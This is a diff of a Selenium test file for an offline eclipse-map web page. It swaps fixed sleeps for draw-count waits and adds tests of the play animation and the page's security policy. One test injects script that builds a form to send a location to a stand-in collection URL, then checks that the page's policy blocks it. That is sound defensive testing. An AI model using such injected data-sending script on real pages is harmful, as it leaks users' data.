@@ -10,10 +10,15 @@ $ECLIPSE_SCREENSHOTS when it names a folder (for looking at), else to the
 test's temporary folder.
 
 Without Chromium these tests skip, except under CI (CI set), where they fail.
+
+Nothing here waits a fixed time: after an input event a test waits (with
+WebDriverWait, up to WAIT_S) for the page to have drawn since and to be at
+rest (``settle``), and the animation is driven by the page's clock
+(``eclipseMap.clock``, ``eclipseMap.advance``), so that a loaded machine
+changes how long the tests take, never what they see.
 """
 
 import os
-import time
 
 import numpy as np
 import pytest
@@ -38,6 +43,27 @@ RAW_SECONDS = 1e-3
 FRACTION = 1e-4
 #: The Sun's altitude and azimuth, rounded to 0.01 degree in both.
 DEGREES = 0.011
+
+
+#: The longest a test waits for the page to settle after an event (s): the
+#: page draws a frame within 50 ms and rests 150 ms after the last movement;
+#: this is for a machine loaded many times over.
+WAIT_S = 30
+
+
+def draws(driver):
+    """How many frames the page has drawn."""
+    return driver.execute_script("return eclipseMap.stats.draws")
+
+
+def settle(driver, since=None):
+    """Wait until the page has drawn a frame after ``since`` (a count of
+    ``draws``, when given) and is at rest: no frame waiting, the view not
+    moving, the animation not playing (``eclipseMap.idle``)."""
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    WebDriverWait(driver, WAIT_S).until(lambda d: d.execute_script(
+        "return eclipseMap.idle() && (arguments[0] === null || eclipseMap.stats.draws > arguments[0])", since))
 
 
 @pytest.fixture(scope="module")
@@ -66,7 +92,12 @@ def shots(tmp_path_factory):
     os.makedirs(folder, exist_ok=True)
 
     def take(driver, name):
-        time.sleep(0.25)  # the redraw after the last event
+        from selenium.webdriver.support.ui import WebDriverWait
+
+        # the redraw after the last event, in full detail (a page around the
+        # map, the notebook's, has no eclipseMap)
+        WebDriverWait(driver, WAIT_S).until(lambda d: d.execute_script(
+            "return !window.eclipseMap || eclipseMap.idle()"))
         driver.save_screenshot(os.path.join(folder, f"{name}.png"))
 
     return take
@@ -239,9 +270,13 @@ def pointer(driver):
 
 
 def click_at(driver, xy):
+    """Click at viewport pixel ``xy`` (a place on the map, or a control that
+    redraws it) and wait for the page to settle."""
     actions = pointer(driver)
     actions.pointer_action.move_to_location(int(round(xy[0])), int(round(xy[1]))).click()
+    before = draws(driver)
     actions.perform()
+    settle(driver, before)
 
 
 def kind_shown(driver):
@@ -289,7 +324,9 @@ def test_drag_and_zoom_change_the_view(driver, pages, shots):
     for k in range(1, 9):
         actions.pointer_action.move_to_location(x + 25 * k, y + 5 * k)
     actions.pointer_action.pointer_up()
+    before = draws(driver)
     actions.perform()
+    settle(driver, before)
     moved = driver.execute_script("return eclipseMap.toPixel(arguments[0], arguments[1])", *place)
     assert moved[0] - start[0] > 100  # the map followed the pointer to the right
     assert kind_shown(driver) is None  # a drag is not a click
@@ -301,8 +338,9 @@ def test_drag_and_zoom_change_the_view(driver, pages, shots):
     zoom = view(driver)["zoom"]
     a = driver.execute_script("return eclipseMap.toPixel(30, -100)")
     b = driver.execute_script("return eclipseMap.toPixel(40, -85)")
+    before = draws(driver)
     ActionChains(driver).scroll_from_origin(ScrollOrigin.from_viewport(int(a[0]), int(a[1])), 0, -400).perform()
-    time.sleep(0.1)
+    settle(driver, before)
     assert view(driver)["zoom"] > 1.5 * zoom
     a2 = driver.execute_script("return eclipseMap.toPixel(30, -100)")
     b2 = driver.execute_script("return eclipseMap.toPixel(40, -85)")
@@ -315,16 +353,19 @@ def test_drag_and_zoom_change_the_view(driver, pages, shots):
     assert view(driver)["zoom"] == pytest.approx(zoomed / 1.6)
     driver.find_element("id", "zoom-in").click()
     assert view(driver)["zoom"] == pytest.approx(zoomed)
+    before = draws(driver)
     driver.find_element("id", "view-flat").click()
-    time.sleep(0.1)
+    settle(driver, before)
     assert view(driver)["mode"] == "flat"
     flat = driver.execute_script("return eclipseMap.toPixel(30, -100)")
     assert flat is not None and np.hypot(flat[0] - a2[0], flat[1] - a2[1]) > 5
     shots(driver, "2024-04-08-flat")
     # on the other side of the globe a place is out of view
     driver.find_element("id", "view-globe").click()
+    before = draws(driver)
     driver.find_element("id", "zoom-reset").click()
-    time.sleep(0.1)
+    settle(driver, before)
+    assert view(driver)["zoom"] == 1 and view(driver)["mode"] == "globe"
     assert driver.execute_script("return eclipseMap.toPixel(-30, 80)") is None
     assert_offline(driver, pages["2024-04-08"])
 
@@ -347,10 +388,56 @@ def test_slider_moves_the_shadow(driver, pages, shots):
 
     assert driver.find_element("id", "time-label").text == format_datetime(jd_ut).replace("T", " ") + " UT"
     shots(driver, "2024-04-08-slider")
+    assert_offline(driver, pages["2024-04-08"])
+
+
+#: The animation plays the partial phase in this many seconds of its clock
+#: (map.js, PLAY_SECONDS).
+PLAY_SECONDS = 24
+
+
+def test_play_advances_by_the_page_clock(driver, pages, shots):
+    """Play moves the slider by the time of the page's clock
+    (eclipseMap.clock), held still here: frames alone move nothing, each
+    eclipseMap.advance(ms) moves it by ms / 1000 / PLAY_SECONDS of the
+    partial phase, and the end stops it there.  A clock run forward moves
+    it at the next frames (waited for), by as much.  Pause stops it."""
+    load(driver, pages["2024-04-08"])
+    start, end = driver.execute_script(
+        "return [+document.getElementById('time').min, +document.getElementById('time').max]")
+    rate = (end - start) / PLAY_SECONDS / 1000  # hours a millisecond
+    driver.execute_script("window.testNow = 0; eclipseMap.clock = () => window.testNow")
+    driver.execute_script("eclipseMap.setHours(arguments[0])", start + 0.25 * (end - start))
+    hours = driver.execute_script("return eclipseMap.hours()")
     driver.find_element("id", "play").click()
-    time.sleep(0.5)
+    assert driver.execute_script("return eclipseMap.playing()")
+    before = draws(driver)
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    WebDriverWait(driver, WAIT_S).until(lambda d: draws(d) > before + 3)  # frames, the clock held
+    assert driver.execute_script("return eclipseMap.hours()") == hours
+    # a step of the animation, as a frame takes it; to 1e-9 h (rounding)
+    assert driver.execute_script("return eclipseMap.advance(2000)")
+    assert driver.execute_script("return eclipseMap.hours()") == pytest.approx(hours + 2000 * rate, abs=1e-9)
+    hours += 2000 * rate
+    label = driver.find_element("id", "time-label").text
+    # the clock runs on: the next frame reads it
+    driver.execute_script("window.testNow += 3000")
+    WebDriverWait(driver, WAIT_S).until(lambda d: d.execute_script("return eclipseMap.hours()") != hours)
+    assert driver.execute_script("return eclipseMap.hours()") == pytest.approx(hours + 3000 * rate, abs=1e-9)
+    assert driver.find_element("id", "time-label").text != label
+    assert float(driver.find_element("id", "time").get_property("value")) == pytest.approx(hours + 3000 * rate)
+    # past the end: stopped there, the button says Play again
+    assert not driver.execute_script("return eclipseMap.advance(arguments[0])", PLAY_SECONDS * 1000)
+    assert driver.execute_script("return [eclipseMap.hours(), eclipseMap.playing()]") == [end, False]
+    assert driver.find_element("id", "play").get_attribute("title") == "Play"
+    shots(driver, "2024-04-08-played-to-the-end")
+    # played again from the end: from the start; paused: still
     driver.find_element("id", "play").click()
-    assert driver.execute_script("return eclipseMap.hours()") > after[0]
+    assert driver.execute_script("return [eclipseMap.hours(), eclipseMap.playing()]") == [start, True]
+    driver.find_element("id", "play").click()
+    assert not driver.execute_script("return eclipseMap.playing() || eclipseMap.advance(1000)")
+    assert driver.execute_script("return eclipseMap.hours()") == start
     assert_offline(driver, pages["2024-04-08"])
 
 
@@ -362,8 +449,9 @@ def test_search_finds_a_city(driver, pages, shots):
     box.send_keys("Dalla")
     options = driver.find_elements("css selector", "#search-results li")
     assert options[0].text.startswith("Dallas, United States")
+    before = draws(driver)
     box.send_keys(Keys.ENTER)
-    time.sleep(0.1)
+    settle(driver, before)
     lat, lon = driver.execute_script("return eclipseMap.selected()")
     assert abs(lat - 32.78) < 0.1 and abs(lon + 96.8) < 0.1
     assert kind_shown(driver) == "total"
@@ -446,8 +534,9 @@ def test_pinch_zooms(driver, pages):
             finger.create_pointer_move(x=x, y=400, duration=50)
     for finger in fingers:
         finger.create_pointer_up(0)
+    before = draws(driver)
     actions.perform()
-    time.sleep(0.1)
+    settle(driver, before)
     assert view(driver)["zoom"] == pytest.approx(3.0, rel=0.02)  # 100 px apart, then 300
     assert kind_shown(driver) is None  # a pinch is not a click
     assert_offline(driver, pages["2024-04-08"])
@@ -531,3 +620,58 @@ def test_kinds_within_one_sigma_agree_with_python(driver, pages):
     load(driver, pages["2024-04-08"])
     assert "sigma" not in driver.find_element("id", "legend").text
     assert driver.execute_script("return eclipseMap.local(32.78, -96.8, 0)")["kinds_seen_within_sigma"] == ["total"]
+
+
+# --- the page leaves nothing and goes nowhere -------------------------------------------
+
+
+def test_form_submission_is_refused(driver, pages):
+    """A form made and submitted by a script (as injected content might)
+    goes nowhere: the policy's form-action 'none' refuses it, the browser
+    reports a securitypolicyviolation, the page stays where it is and
+    nothing is requested."""
+    from selenium.webdriver.support.ui import WebDriverWait
+
+    load(driver, pages["2024-04-08"])
+    url = driver.current_url
+    driver.execute_script("""
+        window.violations = [];
+        document.addEventListener('securitypolicyviolation',
+                                  e => window.violations.push([e.violatedDirective, e.blockedURI]));
+        const form = document.createElement('form');
+        form.action = 'https://example.com/collect'; form.method = 'GET';
+        const field = document.createElement('input');
+        field.name = 'place'; field.value = '32.78,-96.8';
+        form.appendChild(field); document.body.appendChild(form);
+        form.submit();""")
+    WebDriverWait(driver, WAIT_S).until(lambda d: d.execute_script("return window.violations.length > 0"))
+    violations = driver.execute_script("return window.violations")
+    assert [v[0] for v in violations] == ["form-action"]
+    assert "example.com" in violations[0][1]
+    assert driver.current_url == url
+    assert driver.execute_script("return typeof window.violations") == "object"  # the same document
+    requests = [u for u in browser.network_requests(driver) if u != "data:,"]
+    assert not [u for u in requests if "example.com" in u], requests
+    errors = browser.console_errors(driver)  # Chromium logs the refusal itself
+    assert all("form-action" in e for e in errors), errors
+
+
+def test_credit_links_are_plain_links(driver, pages, shots):
+    """The credit names its sources as plain links that open, in a new tab
+    knowing nothing of the page, only when followed; no other element of
+    the page links anywhere (and the page asks for no host lookup)."""
+    load(driver, pages["2024-04-08"])
+    links = driver.execute_script(
+        "return [...document.querySelectorAll('a')].map(a => [a.textContent, a.getAttribute('href'),"
+        " a.target, a.rel, a.closest('#credit') !== null, a.getAttribute('onclick')])")
+    assert [link[0] for link in links] == ["JPL", "Natural Earth", "d3-geo"]
+    for text, href, target, rel, in_credit, onclick in links:
+        assert href.startswith("https://") and target == "_blank" and onclick is None, text
+        assert set(rel.split()) == {"noopener", "noreferrer"} and in_credit, text
+    credit = driver.find_element("id", "credit").text
+    assert credit.startswith("Ephemeris JPL DE421; Delta T") and credit.endswith("; d3-geo (ISC)")
+    prefetch = driver.execute_script(
+        "return document.querySelector('meta[http-equiv=\"x-dns-prefetch-control\"]').content")
+    assert prefetch == "off"
+    shots(driver, "2024-04-08-credit")
+    assert_offline(driver, pages["2024-04-08"])
